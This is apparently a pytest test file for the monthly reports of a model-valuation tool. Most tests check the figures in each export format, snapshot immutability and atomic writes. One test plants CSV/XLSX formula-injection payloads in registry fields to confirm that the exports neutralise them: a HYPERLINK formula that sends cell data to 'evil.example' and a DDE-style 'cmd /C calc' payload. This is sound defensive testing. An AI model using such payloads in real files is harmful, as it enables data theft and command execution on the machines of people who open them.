"""Monthly reports on the demo company: every format read back shows the numbers of
`valuetrack value --json --month`; edge months give clear reports; snapshots are immutable and a
final issue lists what changed since the provisional one; files are written atomically."""

from __future__ import annotations

import datetime as dt
import html.parser
import io
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa

from valuetrack.reports.render import money_exact

AS_OF = "2026-06-15"
MONTH = "2026-04"



@pytest.fixture(autouse=True, scope="module")
def _poppler() -> None:
    """Reading PDFs back needs poppler-utils: fail (never skip) when it is missing."""
    assert shutil.which("pdftotext"), "pdftotext not found: run `bash scripts/system-deps.sh` (make test does)"


@pytest.fixture(scope="module")
def demo(demo_builder) -> Path:
    return demo_builder(0.1, AS_OF)


@pytest.fixture
def in_demo(demo: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(demo)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    monkeypatch.setenv("VALUETRACK_USER", "tester@example.com")
    return demo


def pdf_text(path: Path) -> str:
    """The PDF's text with runs of whitespace collapsed (sentences wrap across lines)."""
    out = subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True, text=True).stdout
    return " ".join(out.split())


def value_json(cli, month: str, as_of: str = AS_OF) -> dict:
    return cli("value", "--month", month, "--as-of", as_of, "--json", schema="value").json


def report(cli, month: str, fmt: str, out: Path, *extra: str) -> dict:
    r = cli("report", "--month", month, "--format", fmt, "--out", out, *extra, "--json", schema="report")
    assert r.code == 0, r.err
    assert out.exists() and out.stat().st_size == r.json["bytes"]
    return r.json


class _Resources(html.parser.HTMLParser):
    """Collects every URL an HTML document would load: src/href/srcset/poster/data attributes and CSS url()."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):  # noqa: ANN001
        for k, v in attrs:
            if v and k in ("src", "href", "srcset", "poster", "data", "action", "background"):
                self.urls.append(v)
            if v and k == "style":
                self.urls += re.findall(r"url\(\s*['\"]?([^'\")]+)", v)
        self._in_style = tag == "style"

    def handle_data(self, data):  # noqa: ANN001
        if self._in_style:
            self.urls += re.findall(r"url\(\s*['\"]?([^'\")]+)", data)
            self.urls += re.findall(r"@import\s+['\"]([^'\"]+)", data)


# ------------------------------------------------------------------------------------------------


def test_every_format_shows_the_numbers_of_value_json(in_demo: Path, cli) -> None:
    truth = value_json(cli, MONTH)
    nets = {m["model"]: m["net"] for m in truth["models"]}
    cur = truth["currency"]
    out = {fmt: in_demo / f"april.{fmt}" for fmt in ("pdf", "html", "csv", "xlsx")}
    results = {fmt: report(cli, MONTH, fmt, path, "--as-of", AS_OF) for fmt, path in out.items()}

    # one issue: the first export stores the snapshot, the other formats re-export it
    ids = {r["snapshot_id"] for r in results.values()}
    assert len(ids) == 1
    assert not results["pdf"]["reused"] and all(results[f]["reused"] for f in ("html", "csv", "xlsx"))
    assert results["pdf"]["status"] == "final"
    assert results["pdf"]["net"] == pytest.approx(truth["totals"]["net"], abs=1e-9)

    # PDF: every model's net value and the total, to the cent, as displayed
    text = pdf_text(out["pdf"])
    assert "Model value report: April 2026" in text and "FINAL" in text
    for name, net in nets.items():
        assert money_exact(net, cur) in text, (name, money_exact(net, cur))
    assert money_exact(truth["totals"]["net"], cur) in text
    assert "Methods, in plain language" in text and truth["models"][0]["display_name"] in text

    # XLSX: numeric cells (not text) equal to the cent
    from openpyxl import load_workbook

    wb = load_workbook(out["xlsx"], data_only=True)
    ws = wb["Summary"]
    header_row = next(r for r in ws.iter_rows() if r[0].value == "Model")
    cols = [c.value for c in header_row]
    seen = {}
    for row in ws.iter_rows(min_row=header_row[0].row + 1):
        if row[0].value in nets:
            cell = row[cols.index("Net value (running costs)")]
            assert isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool)
            assert "0.00" in cell.number_format
            seen[row[0].value] = cell.value
    assert seen.keys() == nets.keys()
    for name, net in nets.items():
        assert round(seen[name], 2) == round(net, 2)
        sheet = next(s for s in wb.worksheets if s["B2"].value == name)
        net_cell = next(r[1] for r in sheet.iter_rows() if r[0].value == "Net value (running costs)")
        assert isinstance(net_cell.value, float) and round(net_cell.value, 2) == round(net, 2)
    total = next(r[1] for r in ws.iter_rows() if r[0].value == "Total net value (running costs)")
    assert round(total.value, 2) == round(truth["totals"]["net"], 2)

    # CSV: tidy, one row per model and metric
    frame = pd.read_csv(out["csv"])
    assert list(frame.columns[:6]) == ["snapshot_id", "month", "status", "as_of", "currency", "model"]
    assert not frame.duplicated(["model", "metric"]).any()
    net_rows = frame[frame["metric"] == "net"].set_index("model")["value"].astype(float)
    for name, net in nets.items():
        assert net_rows[name] == pytest.approx(net, abs=1e-6)
    assert net_rows["(portfolio)"] == pytest.approx(truth["totals"]["net"], abs=1e-6)

    # HTML: self-contained, nothing fetched from the network
    doc = out["html"].read_text(encoding="utf-8")
    parser = _Resources()
    parser.feed(doc)
    assert parser.urls, "the charts should be embedded images"
    external = [u for u in parser.urls if re.match(r"\s*(https?:)?//", u, re.I)]
    assert not external, external
    assert all(u.startswith(("data:", "#")) for u in parser.urls), [u for u in parser.urls if not u.startswith(("data:", "#"))]
    for net in nets.values():
        assert money_exact(net, cur) in doc


def test_a_month_with_no_data_gives_a_clear_report(in_demo: Path, cli) -> None:
    out = in_demo / "2023-01.pdf"
    r = report(cli, "2023-01", "pdf", out, "--as-of", AS_OF)
    assert r["models"] == 0 and r["net"] == 0 and r["status"] == "final"
    text = pdf_text(out)
    assert "No model was live in January 2023" in text
    assert re.search(r"None of the \d+ registered models served customers in January 2023: the first went live on", text)
    assert "no value and no cost" in text
    assert money_exact(0.0) in text


def test_a_month_that_has_not_started_is_refused(in_demo: Path, cli) -> None:
    r = cli("report", "--month", "2026-09", "--format", "csv", "--out", in_demo / "x.csv", "--as-of", AS_OF, "--json")
    assert r.code == 1 and "has not started" in r.json["error"]["message"]
    assert not (in_demo / "x.csv").exists()
    assert cli("report", "--month", "2026-13", "--format", "csv", "--out", in_demo / "x.csv").code == 2  # a malformed month is bad usage (exit 2)


def test_a_model_live_from_mid_month(in_demo: Path, cli) -> None:
    # the demo's cart-abandon-reminder launched on 2026-02-25
    truth = {m["model"]: m for m in value_json(cli, "2026-02")["models"]}
    cart = truth["cart-abandon-reminder"]
    assert cart["period_start"] == "2026-02-01"
    out = in_demo / "feb.html"
    report(cli, "2026-02", "html", out, "--as-of", AS_OF)
    doc = out.read_text(encoding="utf-8")
    assert "Went live mid-month, on 2026-02-25: the month covers 4 of its 28 days" in doc
    assert money_exact(cart["cost"]) in doc and money_exact(cart["net"]) in doc


def test_provisional_then_final_shows_the_difference(in_demo: Path, cli) -> None:
    early = in_demo / "march-early.csv"
    # a report reads the ledger: what was valued as of a past date must have been recorded then
    assert cli("revalue", "--as-of", "2026-04-10", "--json", schema="revalue").code == 0
    first = report(cli, "2026-03", "csv", early, "--as-of", "2026-04-10")
    assert first["status"] == "provisional"
    assert set(pd.read_csv(early)["status"]) == {"provisional"}
    final_path = in_demo / "march.pdf"
    final = report(cli, "2026-03", "pdf", final_path, "--as-of", AS_OF)
    assert final["status"] == "final" and not final["reused"]
    assert final["supersedes"] == first["snapshot_id"]
    assert final["net_change"] == pytest.approx(final["net"] - first["net"], abs=1e-6)
    text = pdf_text(final_path)
    assert f"replaces provisional snapshot {first['snapshot_id']}" in text
    assert "Changes since the provisional issue" in text
    assert money_exact(first["net"]) in text and money_exact(final["net"]) in text
    # the final issue of a closed month is what every later export returns
    again = report(cli, "2026-03", "csv", in_demo / "march.csv")
    assert again["snapshot_id"] == final["snapshot_id"] and again["reused"]


def test_a_stored_snapshot_reads_the_same_after_new_data(in_demo: Path, cli) -> None:
    from valuetrack.context import open_context
    from valuetrack.reports import SnapshotStore

    before = report(cli, MONTH, "csv", in_demo / "a.csv", "--as-of", AS_OF)
    csv_before = (in_demo / "a.csv").read_bytes()
    value_before = value_json(cli, MONTH)["totals"]["net"]
    # new data arrives: late outcomes raise every April cohort's outcome sums
    engine = sa.create_engine(f"sqlite:///{in_demo / 'valuetrack.db'}")
    with engine.begin() as c:  # the rows and their totals over segments, as a refresh writes both (D61)
        for table in ("ab_aggregates", "ab_day_totals"):
            c.execute(sa.text(f"UPDATE {table} SET sum_y = sum_y * 1.5 WHERE day >= '2026-04-01' AND day < '2026-05-01'"
                              " AND arm = 'model'"))
    engine.dispose()
    try:
        # figures change only when the portfolio is valued again (a refresh would do it)
        assert value_json(cli, MONTH)["totals"]["net"] == value_before
        assert cli("revalue", "--as-of", AS_OF).code == 0
        # April's report is final: `value --month` keeps its figures and shows the newer ones as pending
        now = value_json(cli, MONTH)
        assert now["totals"]["net"] == value_before and now["final"]["version"] == 1
        assert now["pending_restatement"]["net_after"] != pytest.approx(value_before, abs=0.01)
        after = report(cli, MONTH, "csv", in_demo / "b.csv", "--as-of", AS_OF)
        assert after["snapshot_id"] == before["snapshot_id"] and after["reused"]
        assert after["pending_restatement"]["net_after"] == pytest.approx(now["pending_restatement"]["net_after"])
        # the issued rows are unchanged; the pending restatement's rows follow them
        assert (in_demo / "b.csv").read_bytes().startswith(csv_before)
        ctx = open_context()
        assert SnapshotStore(ctx.engine).get(before["snapshot_id"]).export("csv") == csv_before
    finally:
        engine = sa.create_engine(f"sqlite:///{in_demo / 'valuetrack.db'}")
        with engine.begin() as c:
            for table in ("ab_aggregates", "ab_day_totals"):
                c.execute(sa.text(f"UPDATE {table} SET sum_y = sum_y / 1.5 WHERE day >= '2026-04-01' AND day < '2026-05-01'"
                                  " AND arm = 'model'"))
        engine.dispose()
        assert cli("revalue", "--as-of", AS_OF).code == 0  # the shared demo's ledger as the other tests expect it


def test_a_tampered_snapshot_is_refused(in_demo: Path, cli) -> None:
    r = report(cli, "2026-01", "csv", in_demo / "jan.csv", "--as-of", AS_OF)
    engine = sa.create_engine(f"sqlite:///{in_demo / 'valuetrack.db'}")
    with engine.begin() as c:
        issued = c.execute(sa.text("SELECT content FROM report_snapshots WHERE id = :i"), {"i": r["snapshot_id"]}).scalar()
        c.execute(sa.text("UPDATE report_snapshots SET content = json_set(content, '$.totals.net', 1e9) WHERE id = :i"),
                  {"i": r["snapshot_id"]})
    try:
        bad = cli("report", "--month", "2026-01", "--format", "csv", "--out", in_demo / "jan2.csv", "--json")
        assert bad.code == 1 and "modified after it was issued" in bad.json["error"]["message"]
    finally:  # the module's demo is shared: later tests compare with this month's snapshot
        with engine.begin() as c:
            c.execute(sa.text("UPDATE report_snapshots SET content = :c WHERE id = :i"),
                      {"c": issued, "i": r["snapshot_id"]})
        engine.dispose()


def test_writes_are_atomic(in_demo: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:
    from valuetrack.context import open_context
    from valuetrack.reports import ReportWriteError, export_report

    target = in_demo / "keep.csv"
    target.write_bytes(b"previous report\n")

    def broken_fsync(fd: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as mp:  # (undoing the fixture's monkeypatch would leave the demo folder)
        mp.setattr("valuetrack.outputs.os.fsync", broken_fsync)
        with pytest.raises(ReportWriteError, match="No space left"):
            export_report(open_context(), month=MONTH, fmt="csv", out=target, as_of=dt.date.fromisoformat(AS_OF))
    assert target.read_bytes() == b"previous report\n"
    assert [p.name for p in in_demo.iterdir() if p.name.startswith(".keep.csv")] == []
    r = cli("report", "--month", MONTH, "--format", "csv", "--out", in_demo / "missing" / "x.csv", "--json")
    assert r.code == 1 and "does not exist" in r.json["error"]["message"]


def test_a_retired_model(in_demo: Path, cli) -> None:
    # push-reactivation stopped serving three weeks before the as-of date; retire it
    assert cli("models", "retire", "push-reactivation").code == 0
    truth = {m["model"]: m for m in value_json(cli, "2026-05")["models"]}
    push = truth["push-reactivation"]
    assert push["status"] == "retired"
    out = in_demo / "may.pdf"
    r = report(cli, "2026-05", "pdf", out, "--as-of", AS_OF)
    text = pdf_text(out)
    assert "Retired during the month: it last served on 2026-05-2" in text
    assert money_exact(push["net"]) in text and money_exact(push["cost"]) in text
    june = in_demo / "june.html"
    report(cli, "2026-06", "html", june, "--as-of", AS_OF)
    doc = june.read_text(encoding="utf-8")
    assert "Retired: it last served on 2026-05-2" in doc and "before 2026-06" in doc
    assert r["status"] == "provisional"


def test_snapshot_exports_itself_for_the_app(in_demo: Path) -> None:
    from valuetrack.context import open_context
    from valuetrack.reports import SnapshotStore

    store = SnapshotStore(open_context().engine)
    listed = store.list(month=MONTH)
    assert listed and {"id", "status", "as_of", "inputs_hash"} <= set(listed[0])
    snap = store.get(listed[0]["id"])
    xlsx = snap.export("xlsx")
    assert xlsx[:2] == b"PK"
    frame = pd.read_csv(io.BytesIO(snap.export("csv")))
    assert set(frame["month"]) == {MONTH}


# a viewer cannot apply a restatement of a final month: tests/reports/test_final_months.py


FORMULAS = {"display_name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "owner": "+1+1",
            "team": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_formula_payloads_in_registry_text_stay_text(demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli) -> None:
    """An attacker who may edit a model's display name, owner or team: the XLSX report opened with
    openpyxl has no formula anywhere and shows the text as typed; the CSV read back starts those
    cells with OWASP's apostrophe; numbers stay numbers (negative ones too)."""
    import openpyxl

    from valuetrack.access import Actor
    from valuetrack.context import open_context

    ws = tmp_path / "evil"
    shutil.copytree(demo, ws, ignore=shutil.ignore_patterns("*.db-wal", "*.db-shm"))
    monkeypatch.chdir(ws)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    from valuetrack.actions import save

    ctx = open_context(actor=Actor("mallory"))
    victim = ctx.registry.get("homepage-recs")
    save(ctx, victim.spec.replace(**FORMULAS), expected_revision=victim.revision)  # the edit is valued at once
    # a final month reads as issued (D34): May, still provisional, is issued again with the edited names
    report(cli, "2026-05", "xlsx", ws / "r.xlsx", "--as-of", AS_OF)
    report(cli, "2026-05", "csv", ws / "r.csv", "--as-of", AS_OF)

    wb = openpyxl.load_workbook(ws / "r.xlsx")
    cells = [c for sheet in wb.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(FORMULAS.values()) <= texts  # shown exactly as typed, as text
    numbers = [c.value for c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    assert any(v < 0 for v in numbers)  # negative money is still a number, not text

    frame = pd.read_csv(ws / "r.csv", dtype=str, keep_default_na=False)
    mine = frame[frame["model"] == "homepage-recs"]
    assert set(mine["display_name"]) == {"'" + FORMULAS["display_name"]}
    assert set(mine["team"]) == {"'" + FORMULAS["team"]}
    raw = (ws / "r.csv").read_text()
    assert not any(line.split(",")[-1].startswith(("=", "+", "@")) for line in raw.splitlines())
    values = pd.to_numeric(frame["value"].replace("", None), errors="coerce")
    assert values.notna().sum() == (frame["value"] != "").sum()  # every value cell still parses as a number
    assert (values < 0).any()


def test_the_report_shows_the_value_at_risk_and_the_decisions(in_demo: Path, cli) -> None:
    """Read back: the portfolio's value at risk as `value --var` reads it, and the classifier's
    decisions in the month as `value --month` computes them, in the PDF, the HTML and the CSV."""
    var = cli("value", "--as-of", AS_OF, "--var", "--json", schema="value").json["var"]
    month = "2026-05"  # provisional: issued again after the edits other tests made (a final month reads as issued)
    fraud = next(m for m in value_json(cli, month)["models"] if m["model"] == "fraud-screen")
    d, cur = fraud["decisions"], fraud["currency"]
    pdf, page, table = in_demo / "r.pdf", in_demo / "r.html", in_demo / "r.csv"
    report(cli, month, "pdf", pdf, "--as-of", AS_OF)
    for fmt, path in (("html", page), ("csv", table)):
        report(cli, month, fmt, path, "--as-of", AS_OF)
    text, doc = pdf_text(pdf), page.read_text(encoding="utf-8")
    for h in ("12m", "1m"):
        for k in ("expected", "var", "es"):
            figure = money_exact(var["horizons"][h][k], cur)
            assert figure in text and figure in doc, (h, k, figure)
    assert "Value at risk of the portfolio" in text and "Decisions of the classifier" in text
    for k in ("total", "realised", "estimate"):
        assert money_exact(d[k], cur) in text and money_exact(d[k], cur) in doc, k
    frame = pd.read_csv(table)
    rows = frame.set_index(["model", "metric"])["value"].astype(float)
    assert rows[("fraud-screen", "decisions_total")] == pytest.approx(d["total"], abs=1e-6)
    assert rows[("(portfolio)", "var_12m")] == pytest.approx(var["horizons"]["12m"]["var"], abs=1e-6)
    assert ("homepage-recs", "decisions_total") not in rows.index
    xlsx = in_demo / "r.xlsx"
    report(cli, month, "xlsx", xlsx, "--as-of", AS_OF)
    from openpyxl import load_workbook

    wb = load_workbook(xlsx, data_only=True)
    summary = {r[0].value: r[1].value for r in wb["Summary"].iter_rows() if r[0].value}
    assert summary["Portfolio, next 12 months: 5% value at risk"] == pytest.approx(var["horizons"]["12m"]["var"])
    sheet = next(s for s in wb.worksheets if s["B2"].value == "fraud-screen")
    cells = {r[0].value: r[1].value for r in sheet.iter_rows() if r[0].value}
    assert cells["Decisions' value (part estimated)"] == pytest.approx(d["total"])


def test_every_format_reconciles_the_rows_with_the_total(demo_builder, monkeypatch: pytest.MonkeyPatch, cli) -> None:
    """Issue 16: the report's section "From the rows to the total" (PDF, HTML, CSV, XLSX) carries the
    stored reconciliation, with an overlap (two copies of homepage-recs reading its rows, refreshed)
    and a model without an estimate (registered after the refresh), and each format adds up."""
    work = demo_builder(0.1, AS_OF)
    monkeypatch.chdir(work)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    monkeypatch.setenv("VALUETRACK_USER", "tester@example.com")
    manifest = cli("models", "export", "--name", "homepage-recs").out

    def register(name: str) -> None:
        path = work / f"{name}.toml"
        path.write_text(manifest.replace('name = "homepage-recs"', f'name = "{name}"', 1)
                        .replace('display_name = "', f'display_name = "{name} ', 1)
                        .replace('model = "model_id"', 'model = "model_id"\nmodel_value = "homepage-recs"', 1))
        assert cli("models", "register", "--file", str(path)).code == 0

    register("recs-copy-one")
    assert cli("refresh", "--as-of", AS_OF).code == 0
    register("recs-copy-two")  # no estimate: its cost counts
    truth = value_json(cli, MONTH)
    t = truth["totals"]
    r = t["reconciliation"]
    cur = truth["currency"]
    by_name = {m["model"]: m for m in truth["models"]}
    assert r["overlap"] <= -by_name["homepage-recs"]["gross"] * (1 - 1e-9) < 0  # at least the one claim too many
    assert r["models_without_estimate"] == ["recs-copy-two"] and r["no_estimate_cost"] == -by_name["recs-copy-two"]["cost"] < 0
    assert r["rows"] == pytest.approx(sum(m["net"] for m in truth["models"] if m["net"] is not None), abs=1e-6)
    assert r["rows"] + r["overlap"] + r["no_estimate_cost"] == pytest.approx(r["total"], abs=1e-6)
    assert r["total"] == t["net"]

    out = {fmt: work / f"recon.{fmt}" for fmt in ("pdf", "html", "csv", "xlsx")}
    for fmt, path in out.items():
        report(cli, MONTH, fmt, path, "--as-of", AS_OF)
    steps = [r["rows"], r["overlap"], r["no_estimate_cost"], r["total"]]
    text = pdf_text(out["pdf"])
    section = text[text.index("From the rows to the total"):]
    at = [section.index(money_exact(v, cur)) for v in steps]
    assert at == sorted(at), section[:600]  # the steps in order, to the cent
    assert f"no estimate · cost {money_exact(by_name['recs-copy-two']['cost'], cur)}" in text
    doc = out["html"].read_text(encoding="utf-8")
    assert all(f'title="{v!r} {cur}"' in doc for v in steps)  # full precision in the HTML
    frame = pd.read_csv(out["csv"])
    portfolio = frame[frame["model"] == "(portfolio)"].set_index("metric")["value"].astype(float)
    assert [portfolio[k] for k in ("reconciliation_rows", "reconciliation_overlap", "reconciliation_no_estimate_cost",
                                   "net")] == pytest.approx(steps, abs=1e-6)
    from openpyxl import load_workbook

    ws = load_workbook(out["xlsx"], data_only=True)["Summary"]
    lines = [row[1].value for row in ws.iter_rows() if str(row[0].value).startswith("Reconciliation: ")]
    assert lines == pytest.approx(steps, abs=1e-6)


def test_both_cost_views_in_every_format(in_demo: Path, cli) -> None:
    """Running costs and fully loaded, labelled in the same words in the PDF, HTML, CSV and XLSX, with
    fraud-screen's amortised one-off cost and its dated monthly cost (issue 16, 17)."""
    from valuetrack.costviews import NET_LOADED, NET_RUNNING, ROI_LOADED, ROI_RUNNING

    truth = next(m for m in value_json(cli, MONTH)["models"] if m["model"] == "fraud-screen")
    cur = truth["currency"]
    assert truth["amortisation"] > 0 and truth["net_fully_loaded"] < truth["net"]
    out = {fmt: in_demo / f"views.{fmt}" for fmt in ("pdf", "html", "csv", "xlsx")}
    for fmt, path in out.items():
        report(cli, MONTH, fmt, path, "--as-of", AS_OF)
    text = pdf_text(out["pdf"])
    page = " ".join(re.sub(r"<[^>]+>", " ", out["html"].read_text()).split())
    for doc in (text, page):
        for words in (NET_RUNNING, ROI_RUNNING, NET_LOADED, ROI_LOADED):
            assert words in doc, words
        assert money_exact(truth["net_fully_loaded"], cur) in doc
        assert money_exact(truth["amortisation"], cur) in doc
        assert "Monthly running cost 12,000.00 from 2025-12-17" not in doc  # the history reads in order
        assert "Monthly running cost $900.00 from 2025-02-20; Monthly running cost $1,200.00 from 2025-12-17" in doc
    frame = pd.read_csv(out["csv"])
    row = frame[(frame["model"] == "fraud-screen") & (frame["metric"] == "net_fully_loaded")]
    assert round(float(row["value"].iloc[0]), 2) == round(truth["net_fully_loaded"], 2)
    from openpyxl import load_workbook

    wb = load_workbook(out["xlsx"], data_only=True)
    sheet = next(s for s in wb.worksheets if s["B2"].value == "fraud-screen")
    cells = {r[0].value: r[1].value for r in sheet.iter_rows()}
    assert round(cells[NET_LOADED], 2) == round(truth["net_fully_loaded"], 2)
    assert round(cells["One-off costs amortised"], 2) == round(truth["amortisation"], 2)


def test_the_report_shows_each_guardrail(in_demo: Path, cli) -> None:
    """coupon-targeting's guardrails in the month, read back from the PDF, the HTML, the CSV and the
    XLSX: each harm against its tolerance, and which money is in net value and which is inside the KPI."""
    from valuetrack.formatting import kpi_amount

    month = "2026-05"
    m = next(x for x in value_json(cli, month)["models"] if x["model"] == "coupon-targeting")
    out = {fmt: in_demo / f"g.{fmt}" for fmt in ("pdf", "html", "csv", "xlsx")}
    for fmt, path in out.items():
        report(cli, month, fmt, path, "--as-of", AS_OF)
    text, doc = pdf_text(out["pdf"]), out["html"].read_text(encoding="utf-8")
    assert "Guardrails" in text and "Guardrails" in doc
    for g in m["guardrails"]:
        for shown in (kpi_amount(g["harm_per_unit"], g["unit"]), kpi_amount(g["tolerance"], g["unit"]), g["name"]):
            assert shown in text and shown in doc, shown
    assert "in net value" in doc and "inside the KPI: not added" in doc
    rows = pd.read_csv(out["csv"]).set_index(["model", "metric"])["value"].astype(float)
    for g in m["guardrails"]:
        assert rows[("coupon-targeting", f"guardrail_{g['name']}_harm_per_unit")] == pytest.approx(g["harm_per_unit"])
        assert rows[("coupon-targeting", f"guardrail_{g['name']}_value")] == pytest.approx(g["value"])
        assert rows[("coupon-targeting", f"guardrail_{g['name']}_in_net")] == float(g["in_net"])
    from openpyxl import load_workbook

    sheet = next(s for s in load_workbook(out["xlsx"], data_only=True).worksheets if s["B2"].value == "coupon-targeting")
    cells = {r[0].value: r[1].value for r in sheet.iter_rows() if r[0].value}
    rate = next(g for g in m["guardrails"] if g["name"] == "refund_rate")
    assert cells["Guardrail refund_rate: money"] == pytest.approx(rate["value"])
    assert cells["Guardrail refund_rate: money in net value"] is True


def test_a_report_without_a_stored_value_at_risk(demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cli) -> None:
    """An app database with no value at risk for the date (upgraded from before it was simulated, or
    no model with a value estimate): every format still renders, and the HTML and PDF say why the
    section is empty."""
    from valuetrack.context import open_context
    from valuetrack.store.schema import portfolio_var

    ws = tmp_path / "novar"
    shutil.copytree(demo, ws, ignore=shutil.ignore_patterns("*.db-wal", "*.db-shm"))
    monkeypatch.chdir(ws)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    with open_context().engine.begin() as conn:
        assert conn.execute(sa.delete(portfolio_var)).rowcount > 0
    missing = "No value at risk was stored for this date: a refresh computes it."
    for fmt in ("html", "pdf", "csv", "xlsx"):
        report(cli, "2026-05", fmt, ws / f"r.{fmt}", "--as-of", AS_OF)
    assert missing in (ws / "r.html").read_text(encoding="utf-8")
    assert missing in pdf_text(ws / "r.pdf")


def test_what_changed_compares_the_headline_totals(demo_builder, monkeypatch: pytest.MonkeyPatch, cli) -> None:
    """"What changed since" compares the portfolio's total net value of the two months as their
    headlines show it, after the deduction of the value two models count twice (here a copy of the
    model worth most), not the sum of the models' rows."""
    from tests.manifests import copy_of_the_most_valuable

    ws = demo_builder(0.1, AS_OF)  # a copy of its own: no month of it issued final yet
    monkeypatch.chdir(ws)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    monkeypatch.setenv("VALUETRACK_USER", "tester@example.com")
    copy_of_the_most_valuable(value_json(cli, MONTH)["models"])
    assert cli("refresh", "--as-of", AS_OF).code == 0
    now, before = value_json(cli, MONTH)["totals"], value_json(cli, "2026-03")["totals"]
    assert now["double_counted"] > 0 and before["double_counted"] > 0  # the rows' sum is not the total here
    out = ws / "changes.html"
    report(cli, MONTH, "html", out, "--as-of", AS_OF)
    doc = " ".join(out.read_text(encoding="utf-8").split())
    assert f"Total net value {money_exact(before['net'])} in March 2026 → {money_exact(now['net'])} now" in doc


def test_no_refresh_advice_when_the_refresh_is_current(demo_builder, monkeypatch: pytest.MonkeyPatch, cli) -> None:
    """push-reactivation stopped serving late in May: right after a refresh as of the report's date,
    every cohort it has is as mature as a refresh can make it, so May's report must not tell anyone
    to refresh for it (it did: its mature-through day was compared with the month's end)."""
    ws = demo_builder(0.1, AS_OF)
    monkeypatch.chdir(ws)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    out = ws / "may.html"
    report(cli, "2026-05", "html", out, "--as-of", AS_OF)
    doc = " ".join(out.read_text(encoding="utf-8").split())
    assert "some of this month&#39;s cohorts are not yet mature" in doc  # the models still serving: provisional
    assert "predates the maturity" not in doc


def test_the_next_issue_says_why_its_figures_changed(demo_builder, monkeypatch: pytest.MonkeyPatch, cli) -> None:
    """The next issue of a month lists what changed since the previous one and says why in words that
    fit: a model registered since is 'new in this version' (it said 'late outcomes and newly mature
    cohorts change the estimates' whatever had changed)."""
    import dataclasses

    from valuetrack.actions import save
    from valuetrack.context import open_context

    ws = demo_builder(0.1, AS_OF)
    monkeypatch.chdir(ws)
    monkeypatch.delenv("VALUETRACK_CONFIG", raising=False)
    monkeypatch.setenv("VALUETRACK_USER", "tester@example.com")
    report(cli, "2026-05", "html", ws / "first.html", "--as-of", AS_OF)
    ctx = open_context()
    spec = ctx.registry.get("homepage-recs").spec
    save(ctx, dataclasses.replace(spec, name="late-joiner", display_name="Late joiner"))
    report(cli, "2026-05", "html", ws / "second.html", "--as-of", AS_OF)
    doc = " ".join((ws / "second.html").read_text(encoding="utf-8").split())
    assert "Changes since the provisional issue" in doc
    assert "1 model is new in this version." in doc and "Late outcomes" not in doc


def test_no_negative_zero_in_json_or_csv(in_demo: Path, cli) -> None:
    """A reconciliation with no overlap and no model without an estimate reads 0.0, not -0.0."""
    run = cli("value", "--as-of", AS_OF, "--json", schema="value")
    assert run.code == 0, run.err
    out = run.out
    report(cli, MONTH, "csv", in_demo / "zero.csv", "--as-of", AS_OF)
    negative_zero = re.compile(r"(?<![\d.])-0\.0(?![\d.])")
    assert not negative_zero.search(out)
    assert not negative_zero.search((in_demo / "zero.csv").read_text())


def test_probabilities_read_as_on_the_pages(in_demo: Path, cli) -> None:
    """P(net value > 0) is a percentage in the HTML, the PDF and the XLSX, as on the pages (it read
    '0.97' in the reports and '97%' on the pages)."""
    from openpyxl import load_workbook

    from valuetrack.formatting import pct

    truth = value_json(cli, MONTH)["totals"]
    assert truth["prob_positive"] is not None
    for fmt in ("html", "pdf", "xlsx"):
        report(cli, MONTH, fmt, in_demo / f"p.{fmt}", "--as-of", AS_OF)
    assert f"P(net value &gt; 0) = {pct(truth['prob_positive'])}" in (in_demo / "p.html").read_text(encoding="utf-8")
    assert f"P(net value > 0) = {pct(truth['prob_positive'])}" in pdf_text(in_demo / "p.pdf")
    risk = re.findall(r"P\(net value < 0\) = ([\d.,]+%?)", pdf_text(in_demo / "p.pdf"))  # each model's risk lines
    assert risk and all(v.endswith("%") for v in risk)
    ws = load_workbook(in_demo / "p.xlsx")["Summary"]
    cell = next(r[1] for r in ws.iter_rows() if r[0].value == "P(net value > 0)")
    assert cell.value == pytest.approx(truth["prob_positive"]) and cell.number_format == "0%"
